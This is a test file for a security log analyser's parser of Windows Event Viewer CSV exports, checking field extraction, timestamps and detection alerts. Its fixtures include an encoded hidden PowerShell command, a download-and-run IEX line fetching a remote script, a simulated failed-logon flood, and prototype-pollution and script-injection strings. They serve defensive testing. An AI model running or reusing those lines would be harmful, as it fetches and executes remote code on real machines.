import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { exportTime, renderedFields } from '../../src/ingest/formats/windows-csv.ts';
import { analyzeStore } from '../../src/pipeline/analyze.ts';
import { ingest } from '../../src/pipeline/ingest.ts';
import { openStore } from '../../src/store/index.ts';
import { eventsOf, read, selected } from '../detect/mapping/helpers.ts';
import { hostileEvents } from '../helpers/hostile.ts';
import { tempDirs } from '../helpers/temp.ts';

/** Event Viewer's CSV export: the rendered message read back into the fields the Windows mappings and rules read. */

const dirs = tempDirs('windows-csv');
const quoted = (text: string) => `"${text.replace(/"/g, '""')}"`;
const SECURITY_HEADER = 'Keywords,Date and Time,Source,Event ID,Task Category';
const LEVEL_HEADER = 'Level,Date and Time,Source,Event ID,Task Category';

const failedLogon = (user: string, ip: string) =>
  `An account failed to log on.\n\nSubject:\n\tSecurity ID:\t\tNULL SID\n\tAccount Name:\t\t-\n\tAccount Domain:\t\t-\n\tLogon ID:\t\t0x0\n\nLogon Type:\t\t\t3\n\nAccount For Which Logon Failed:\n\tSecurity ID:\t\tNULL SID\n\tAccount Name:\t\t${user}\n\tAccount Domain:\t\tCORP\n\nFailure Information:\n\tFailure Reason:\t\tUnknown user name or bad password.\n\tStatus:\t\t\t0xC000006D\n\tSub Status:\t\t0xC000006A\n\nNetwork Information:\n\tWorkstation Name:\tKALI\n\tSource Network Address:\t${ip}\n\tSource Port:\t\t49152\n\nDetailed Authentication Information:\n\tLogon Process:\t\tNtLmSsp \n\tAuthentication Package:\tNTLM\n\nThis event is generated when a logon request fails. It is generated on the computer where access was attempted.`;

const sysmonProcess = (commandLine: string) =>
  `Process Create:\nRuleName: -\nUtcTime: 2026-11-23 14:05:00.123\nProcessGuid: {5770385f-0001-0000-0000-000000000000}\nProcessId: 4242\nImage: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\nOriginalFileName: PowerShell.EXE\nCommandLine: ${commandLine}\nCurrentDirectory: C:\\Users\\alice\\\nUser: CORP\\alice\nIntegrityLevel: High\nHashes: SHA256=2B5E9E2E8E6A5F3B1C2D3E4F5A6B7C8D9E0F1A2B3C4D5E6F7A8B9C0D1E2F3A4B\nParentProcessId: 1000\nParentImage: C:\\Windows\\explorer.exe\nParentCommandLine: C:\\Windows\\Explorer.EXE`;

const ENCODED = 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA';

void describe('Windows Event Viewer CSV export', () => {
  void it("reads a Security export's failed logon: account, client, logon type and outcome, at the exporter's local time", async () => {
    const [e] = await eventsOf('Security.csv', `${SECURITY_HEADER}\r\nAudit Failure,11/23/2026 8:01:02 PM,Microsoft-Windows-Security-Auditing,4625,Logon,${quoted(failedLogon('administrator', '203.0.113.50'))}\r\n`);
    assert.deepEqual(
      [e?.vigil.format, e?.event.dataset, e?.event.action, e?.event.outcome, e?.user?.name, e?.user?.domain, e?.source?.ip, e?.source?.port, e?.winlog?.logon?.type, e?.['@timestamp'], e?.vigil.time.source],
      ['windows-csv', 'windows.security', 'logon-failed', 'failure', 'administrator', 'CORP', '203.0.113.50', 49152, '3', '2026-11-23T20:01:02.000Z', 'assumed_zone'],
    );
    assert.equal(e?.winlog?.event_data?.SubStatus, '0xc000006a', 'as EVTX and XML render it, not as the message shows it');
    assert.equal(e !== undefined && selected(e, { product: 'windows', service: 'security' }), true);
  });

  void it("reads the tab-delimited text export (\"Save All Events As… Text\") alike", async () => {
    const header = SECURITY_HEADER.replace(/,/g, '\t');
    const [e] = await eventsOf('Security.txt', `${header}\r\nAudit Failure\t11/23/2026 8:01:02 AM\tMicrosoft-Windows-Security-Auditing\t4625\tLogon\t${quoted(failedLogon('eve', '203.0.113.51'))}\r\n`);
    assert.deepEqual([e?.vigil.format, e?.event.action, e?.user?.name, e?.source?.ip], ['windows-csv', 'logon-failed', 'eve', '203.0.113.51']);
  });

  void it("reads Sysmon's named fields, a day-first 24-hour time, and feeds Sigma's process_creation", async () => {
    const [e] = await eventsOf('Sysmon.csv', `${LEVEL_HEADER}\r\nInformation,23/11/2026 14:05:00,Microsoft-Windows-Sysmon,1,Process Create (rule: ProcessCreate),${quoted(sysmonProcess(ENCODED))}\r\n`);
    assert.deepEqual([e?.event.dataset, e?.process?.executable, e?.process?.pid, e?.process?.command_line, e?.process?.parent?.executable, e?.['@timestamp']], ['windows.sysmon', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 4242, ENCODED, 'C:\\Windows\\explorer.exe', '2026-11-23T14:05:00.000Z']);
    assert.equal(e !== undefined && selected(e, { product: 'windows', category: 'process_creation' }), true);
    assert.equal(e !== undefined && read(e, { product: 'windows', category: 'process_creation' }, 'OriginalFileName'), 'PowerShell.EXE');
  });

  void it('raises the pack\'s alerts from an export: encoded PowerShell, and a flood of failed logons against one account', async () => {
    const dir = dirs.fresh();
    const rows = [
      ...Array.from({ length: 12 }, (_, i) => `Audit Failure,11/23/2026 8:0${String(Math.floor(i / 6))}:${String(10 + i)} AM,Microsoft-Windows-Security-Auditing,4625,Logon,${quoted(failedLogon('administrator', '203.0.113.60'))}`),
    ];
    writeFileSync(join(dir, 'Security.csv'), `${SECURITY_HEADER}\r\n${rows.join('\r\n')}\r\n`);
    writeFileSync(join(dir, 'Sysmon.csv'), `${LEVEL_HEADER}\r\nInformation,11/23/2026 8:05:00 AM,Microsoft-Windows-Sysmon,1,Process Create (rule: ProcessCreate),${quoted(sysmonProcess(ENCODED))}\r\n`);
    const store = openStore(join(dir, 'v.db'));
    try {
      await ingest(store, [join(dir, 'Security.csv'), join(dir, 'Sysmon.csv')], { tz: 'UTC', actor: 'test' });
      const titles = analyzeStore(store, { actor: 'test' }).incidents.map((i) => i.title).join(' | ');
      assert.match(titles, /powershell/i);
      assert.match(titles, /failure flood|brute force|failed/i);
    } finally {
      store.close();
    }
  });

  void it("reads a PowerShell script block's script back, for Sigma's ps_script rules", async () => {
    const script = 'IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.7/a.ps1")\r\nWrite-Host done';
    const message = `Creating Scriptblock text (1 of 1):\r\n${script}\r\n\r\nScriptBlock ID: 6b0b3f4e-0000-4000-8000-000000000000\r\nPath: C:\\Users\\alice\\a.ps1`;
    const [e] = await eventsOf('PowerShell.csv', `${LEVEL_HEADER}\r\nVerbose,11/23/2026 8:03:00 AM,Microsoft-Windows-PowerShell,4104,Execute a Remote Command,${quoted(message)}\r\n`);
    assert.deepEqual([e?.event.dataset, e?.event.action, e?.winlog?.event_data?.ScriptBlockText, e?.winlog?.event_data?.Path, e?.labels?.script_block_part], ['windows.powershell', 'powershell-script-block', script.replace(/\r\n/g, '\n'), 'C:\\Users\\alice\\a.ps1', '1/1']);
    assert.equal(e !== undefined && selected(e, { product: 'windows', category: 'ps_script' }), true);
    assert.match(String(e !== undefined && read(e, { product: 'windows', category: 'ps_script' }, 'ScriptBlockText')), /DownloadString/);
  });

  void it('reads the times of the locales Event Viewer writes, and keeps others as they are', () => {
    assert.equal(exportTime('11/23/2026 8:01:02 AM'), '2026-11-23T08:01:02');
    assert.equal(exportTime('1/2/2026 12:00:00 AM'), '2026-01-02T00:00:00');
    assert.equal(exportTime('1/2/2026 12:30:00 PM'), '2026-01-02T12:30:00');
    assert.equal(exportTime('23/11/2026 14:05:00'), '2026-11-23T14:05:00');
    assert.equal(exportTime('02.01.2026 14:05:00'), '2026-01-02T14:05:00', 'day first without a 12-hour clock');
    assert.equal(exportTime('2026-11-23 14:05:00'), '2026-11-23 14:05:00');
  });

  void it('is taken for Event Viewer exports only, and by its header alone when the first message outruns the sample', async () => {
    const [generic] = await eventsOf('other.csv', 'Level,Date and Time,Source,Host\r\ninfo,2026-11-23 08:00:00,app,web1\r\n');
    assert.equal(generic?.vigil.format, 'csv');
    const long = `${failedLogon('bob', '203.0.113.61')}\n${'\nThis event is generated when a logon request fails.'.repeat(40)}`;
    const [e] = await eventsOf('Security.csv', `${SECURITY_HEADER}\r\nAudit Failure,11/23/2026 8:01:02 AM,Microsoft-Windows-Security-Auditing,4625,Logon,${quoted(long)}\r\n`);
    assert.deepEqual([e?.vigil.format, e?.user?.name], ['windows-csv', 'bob']);
  });

  void it('survives hostile messages: keys named like Object.prototype members, markup, runaway sections', async () => {
    const message = `An account failed to log on.\n\nconstructor:\n\t__proto__:\t\tx\n\ttoString:\t\ty\n\nAccount For Which Logon Failed:\n\tAccount Name:\t\t<script>alert(1)</script>\n${'Section:\n'.repeat(500)}`;
    assert.deepEqual(Object.keys(renderedFields(message, false)), ['TargetUserName']);
    const sysmon = renderedFields('Process Create:\n__proto__: polluted\nconstructor: x\nImage: C:\\a.exe', true);
    assert.deepEqual([Object.getPrototypeOf(sysmon), Object.hasOwn(sysmon, 'constructor'), sysmon.Image], [Object.prototype, true, 'C:\\a.exe'], 'own fields, the prototype untouched');
    const events = await hostileEvents('windows-csv', `${SECURITY_HEADER}\r\nAudit Failure,11/23/2026 8:01:02 AM,Microsoft-Windows-Security-Auditing,4625,Logon,${quoted(message)}\r\n`, 1);
    assert.equal(events[0]?.user?.name, '<script>alert(1)</script>', 'kept as text: the edges escape it');
  });
});
